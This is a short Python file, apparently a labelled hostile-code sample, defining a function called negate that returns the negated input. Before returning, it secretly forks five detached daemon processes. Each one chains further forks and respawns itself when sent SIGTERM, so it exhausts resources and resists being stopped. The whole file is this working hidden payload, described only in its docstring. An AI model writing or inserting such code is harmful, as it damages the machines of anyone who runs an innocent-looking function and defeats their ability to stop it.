"""Leaves five daemons, each of which starts another when it is ended.

row: exhaust
"""
import os
import signal
import time


def negate(x):
    for _ in range(5):
        if os.fork() == 0:
            os.setsid()
            signal.signal(signal.SIGTERM, lambda *a: os.fork())
            for _ in range(40):
                if os.fork():
                    os._exit(0)
                time.sleep(0.05)
            os._exit(0)
    return -x
